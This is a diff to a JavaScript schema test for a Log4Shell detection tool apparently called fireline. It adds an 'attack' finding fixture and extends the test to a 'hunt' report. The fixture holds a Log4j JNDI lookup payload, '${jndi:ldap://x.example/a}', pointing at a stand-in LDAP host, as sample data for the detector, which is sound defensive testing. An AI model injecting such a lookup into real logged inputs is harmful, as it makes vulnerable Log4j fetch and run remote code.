@@ -49,6 +49,46 @@ const component = {
   remedy: 'update',
 }
 
+const attack = {
+  schema: 'fireline.finding/1',
+  id: 'f-3',
+  kind: 'attack',
+  at: { source: '/var/log/a.log', line: 1, byteOffset: 0 },
+  when: null,
+  from: '203.0.113.7',
+  request: null,
+  userAgent: null,
+  field: null,
+  format: 'plain',
+  verdict: 'fires',
+  because: 'a vulnerable Log4j looks it up',
+  firesOn: ['C'],
+  needsJdk: null,
+  lookup: {
+    raw: '${jndi:ldap://x.example/a}',
+    meaning: 'jndi:ldap://x.example/a',
+    scheme: 'ldap',
+    host: 'x.example',
+    port: 389,
+    path: 'a',
+    domain: null,
+    reads: [],
+    times: 1,
+  },
+  traits: [],
+  leaks: [],
+  carries: [],
+  outcome: 'attempt',
+  scanner: null,
+  title: 'a title',
+  severity: 'high',
+  cves: [{ id: 'CVE-2021-44228', status: 'under_investigation', because: 'the log does not say' }],
+  evidence: [{ kind: 'log', source: '/var/log/a.log', line: 1, byteOffset: 0, says: 'it is there', text: 'x' }],
+  by: 'hunt',
+  seenAt: '2026-01-01T00:00:00.000Z',
+  remedy: 'scan',
+}
+
 const report = {
   schema: 'fireline.report/1',
   tool: { name: 'fireline', version: '0.1.0' },
@@ -66,8 +106,8 @@ test('a report as the first release wrote it is still one', () => {
   expect(reportSchema.parse(report)).toEqual(report)
 })
 
-test.each(['probe', 'scan', 'fix'])('a report of %s can have findings of any kind', (verb) => {
-  const mixed = { ...report, verb, findings: [exposure, component] }
+test.each(['probe', 'scan', 'fix', 'hunt'])('a report of %s can have findings of any kind', (verb) => {
+  const mixed = { ...report, verb, findings: [exposure, component, attack] }
 
   expect(reportSchema.parse(mixed)).toEqual(mixed)
 })
